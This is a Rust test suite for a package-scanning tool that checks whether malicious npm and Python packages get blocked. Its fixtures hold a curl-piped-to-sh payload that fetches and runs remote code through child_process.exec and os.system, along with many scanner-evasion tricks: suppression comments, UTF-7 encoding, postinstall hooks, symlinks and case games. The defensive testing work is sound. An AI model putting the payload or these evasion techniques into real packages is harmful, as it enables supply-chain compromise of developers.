//! Nothing that a package ships keeps what it does from being told: each test hides the same payload in another way.
#![allow(clippy::unwrap_used, reason = "a test may panic")]

use mcpscan::model::{ArtifactKind, GapReason, ScanReport, Severity, Verdict};
use mcpscan::signatures::Signatures;

use crate::judged::{Entry, Files, judge, pack, pack_entries};

const SCRIPT: &str = "require('child_process').exec('curl -s http://payload.acme-cdn.example/i.sh | sh');\n";
const PYTHON: &str = "import os\nos.system('curl -s http://payload.acme-cdn.example/i.sh | sh')\n";
const MANIFEST: &str = r#"{ "name": "notes", "version": "1.0.0", "main": "index.js" }"#;
const PROJECT: &str = "[project]\nname = \"notes\"\nversion = \"1.0.0\"\n\n[project.scripts]\nnotes = \"notes:main\"\n";

fn file(path: &str, content: impl AsRef<[u8]>) -> (String, Vec<u8>) {
    (path.to_owned(), content.as_ref().to_vec())
}

/// A package of npm with this entry file and these files beside it.
fn npm(index: impl AsRef<[u8]>, others: Files) -> ScanReport {
    let files = [file("package.json", MANIFEST), file("index.js", index)].into_iter().chain(others).collect();
    judge(pack(ArtifactKind::NpmTarball, &files), &Signatures::builtin())
}

fn pypi(module: impl AsRef<[u8]>, others: Files) -> ScanReport {
    let files = [file("pyproject.toml", PROJECT), file("notes.py", module)].into_iter().chain(others).collect();
    judge(pack(ArtifactKind::Sdist, &files), &Signatures::builtin())
}

fn tells(report: &ScanReport, path: &str) -> bool {
    report.findings.iter().any(|finding| finding.severity == Severity::Critical && finding.location.path.as_str() == path)
}

/// The payload is found where it stands, and nothing talks the verdict down.
fn blocks(what: &str, report: &ScanReport, path: &str) {
    assert!(tells(report, path), "{what}: {:?}", report.findings.iter().map(|finding| &finding.message).collect::<Vec<_>>());
    assert_eq!(report.verdict, Verdict::Block, "{what}");
}

/// It is at least not passed, and something says why.
fn stops(what: &str, report: &ScanReport) {
    assert_ne!(report.verdict, Verdict::Pass, "{what}: {}", report.summary);
    let said = report.findings.iter().any(|finding| finding.severity >= Severity::Medium) || !report.coverage.gaps.is_empty();
    assert!(said, "{what}");
}

#[test]
fn the_payload_alone_is_blocked() {
    blocks("script", &npm(SCRIPT, Vec::new()), "index.js");
    blocks("python", &pypi(PYTHON, Vec::new()), "notes.py");
}

#[test]
fn files_that_ask_to_be_ignored_are_data() {
    let names = [
        ".mcpscanignore",
        ".npmignore",
        ".gitignore",
        ".semgrepignore",
        ".eslintignore",
        ".bandit",
        ".snyk",
        "mcpscan.toml",
        ".trivyignore",
    ];
    let others = || names.iter().map(|name| file(name, "*\n**/*\nindex.js\nnotes.py\nskips: ['*']\n")).collect::<Files>();
    blocks("script", &npm(SCRIPT, others()), "index.js");
    blocks("python", &pypi(PYTHON, others()), "notes.py");
}

#[test]
fn comments_excuse_nothing() {
    let marks =
        ["eslint-disable", "@ts-ignore", "nosemgrep", "mcpscan-ignore-file", "istanbul ignore next", "NOSONAR", "@license MIT", "noqa"];
    for mark in marks {
        let code = format!("/* {mark} */\n// {mark}\n{} // {mark}\n", SCRIPT.trim());
        blocks(mark, &npm(code, Vec::new()), "index.js");
        let code =
            format!("# {mark}: all\nimport os  # {mark}\nos.system('curl -s http://payload.acme-cdn.example/i.sh | sh')  # nosec {mark}\n");
        blocks(mark, &pypi(code, Vec::new()), "notes.py");
    }
}

#[test]
fn the_encoding_that_a_file_asks_for_is_followed_or_said() {
    for cookie in ["utf-8", "latin-1", "cp1252", "ascii"] {
        let report = pypi(format!("# -*- coding: {cookie} -*-\n{PYTHON}"), Vec::new());
        blocks(cookie, &report, "notes.py");
    }
    let hidden: String = PYTHON.chars().map(|letter| if letter.is_alphabetic() { utf7(letter) } else { letter.to_string() }).collect();
    blocks("utf-7", &pypi(format!("# coding: utf-7\n{hidden}"), Vec::new()), "notes.py");
    for cookie in ["unicode_escape", "rot13", "raw_unicode_escape", "no-such-code", "punycode", "iso-8859-15"] {
        stops(cookie, &pypi(format!("# coding: {cookie}\n{PYTHON}"), Vec::new()));
    }
}

/// A letter in modified base64, as `+AG8-`.
fn utf7(letter: char) -> String {
    use base64::Engine as _;
    let code = [0, u8::try_from(letter).unwrap()];
    format!("+{}-", base64::engine::general_purpose::STANDARD_NO_PAD.encode(code))
}

#[test]
fn what_does_not_parse_hides_nothing_behind_it() {
    let broken =
        ["}} ))) ((( {{{ '\n", "function ( { [\n", "const = = ;\nclass {\n", "<<<<<<< HEAD\n=======\n>>>>>>> x\n", "\u{0}\u{1}\u{2}\n"];
    for prefix in broken {
        stops(prefix, &npm(format!("{prefix}{SCRIPT}"), Vec::new()));
        stops(prefix, &npm(format!("{SCRIPT}{prefix}"), Vec::new()));
    }
    for prefix in ["def ((:\n", "print 'old'\nexec 'x'\n", "\tif x:\n  y\n", "<<<<<<< HEAD\n", "'''\n'''x'''\n"] {
        stops(prefix, &pypi(format!("{prefix}{PYTHON}"), Vec::new()));
        stops(prefix, &pypi(format!("{PYTHON}{prefix}"), Vec::new()));
    }
}

#[test]
fn bytes_that_are_no_text_hide_nothing() {
    for junk in [&b"\0\0\0\0"[..], b"\xff\xfe\xfd", b"\x80\x81//", b"\x1b[2K\r"] {
        let code = [b"// ", junk, b"\n", SCRIPT.as_bytes()].concat();
        stops("script", &npm(code, Vec::new()));
        let code = [b"# ", junk, b"\n", PYTHON.as_bytes()].concat();
        stops("python", &pypi(code, Vec::new()));
    }
    let wide: Vec<u8> = [0xfeff].into_iter().chain(SCRIPT.encode_utf16()).flat_map(u16::to_le_bytes).collect();
    stops("utf-16", &npm(wide, Vec::new()));
}

#[test]
fn one_long_line_and_much_data_hide_nothing() {
    let data = "ab".repeat(2_500_000);
    blocks("behind a text", &npm(format!("const data = '{data}'; {SCRIPT}"), Vec::new()), "index.js");
    blocks("behind a text", &pypi(format!("DATA = '{data}'\n{PYTHON}"), Vec::new()), "notes.py");
    blocks("behind a comment", &npm(format!("/* {data} */ {SCRIPT}"), Vec::new()), "index.js");
    let calls = "f(1);".repeat(20_000);
    blocks("among calls", &npm(format!("{calls}{}{calls}", SCRIPT.trim()), Vec::new()), "index.js");
}

#[test]
fn a_flood_of_lesser_findings_drowns_none() {
    let reads: String = (0..10_000).map(|at| format!("console.log(process.env.ACME_VALUE_{at});\n")).collect();
    let report = npm(format!("{reads}{SCRIPT}{reads}"), Vec::new());
    blocks("variables", &report, "index.js");
    assert!(report.findings[0].severity == Severity::Critical && report.findings.len() > 1_000, "the worst comes first");
    let reads: String = (0..10_000).map(|at| format!("print(os.environ['ACME_VALUE_{at}'])\n")).collect();
    blocks("variables", &pypi(format!("import os\n{reads}{PYTHON}{reads}"), Vec::new()), "notes.py");
}

#[test]
fn many_files_hide_none_of_them() {
    let mut others: Files = (0..20_000).map(|at| file(&format!("lib/{}/m{at}.js", at % 100), format!("exports.at = {at};\n"))).collect();
    others.push(file("lib/77/zz.js", SCRIPT));
    blocks("many", &npm("require('./lib/77/zz.js');\n", others), "lib/77/zz.js");
}

#[test]
fn a_wrong_first_line_changes_nothing() {
    for line in ["#!/bin/sh", "#!/usr/bin/env python3", "#!/usr/bin/perl -w", "#!/bin/false"] {
        blocks(line, &npm(format!("{line}\n{SCRIPT}"), Vec::new()), "index.js");
        blocks(line, &pypi(format!("{line}\n{PYTHON}"), Vec::new()), "notes.py");
    }
}

/// Node reads a file of any ending that it is told to run, and so does Python.
#[test]
fn an_ending_that_says_nothing_hides_nothing_that_is_run() {
    for name in ["setup.txt", "README", "hook.md", "data.bin", "logo.png", "LICENSE.map", "a.yaml", "x.toml"] {
        let manifest = format!(r#"{{ "name": "notes", "version": "1.0.0", "scripts": {{ "postinstall": "node {name}" }} }}"#);
        let files = vec![file("package.json", manifest), file("index.js", "exports.a = 1;\n"), file(name, SCRIPT)];
        blocks(name, &judge(pack(ArtifactKind::NpmTarball, &files), &Signatures::builtin()), name);
    }
    for name in ["setup.txt", "data.png", "notes.md"] {
        stops(name, &npm(format!("require('./{name}');\n"), vec![file(name, SCRIPT)]));
    }
}

#[test]
fn compiled_modules_without_their_source_are_said() {
    let code = b"\xcb\x0d\x0d\x0a\0\0\0\0\0\0\0\0\0\0\0\0\xe3\0\0\0\0";
    let report = pypi("from . import inner\n", vec![file("__pycache__/inner.cpython-312.pyc", code)]);
    stops("beside other code", &report);
    assert!(report.coverage.gaps.iter().any(|gap| gap.reason == GapReason::NativeBinary));
    let files = vec![file("pyproject.toml", PROJECT), file("notes.pyc", code)];
    stops("alone", &judge(pack(ArtifactKind::Sdist, &files), &Signatures::builtin()));
}

#[test]
fn links_and_names_in_another_case_hide_nothing() {
    let entry = |name, content: &'static [u8]| Entry { name, link: None, content };
    let entries = [
        entry("acme-1.0.0/pyproject.toml", PROJECT.as_bytes()),
        Entry { name: "acme-1.0.0/notes.py", link: Some("inner/real.txt"), content: b"" },
        entry("acme-1.0.0/inner/real.txt", PYTHON.as_bytes()),
    ];
    stops("a link", &judge(pack_entries(ArtifactKind::Sdist, &entries), &Signatures::builtin()));
    let entries = [
        entry("package/package.json", MANIFEST.as_bytes()),
        entry("package/index.js", b"exports.a = 1;\n"),
        entry("package/INDEX.js", SCRIPT.as_bytes()),
        entry("package/Index.JS", SCRIPT.as_bytes()),
    ];
    stops("another case", &judge(pack_entries(ArtifactKind::NpmTarball, &entries), &Signatures::builtin()));
    blocks("an ending in capitals", &npm("require('./RUN.JS');\n", vec![file("RUN.JS", SCRIPT)]), "RUN.JS");
}
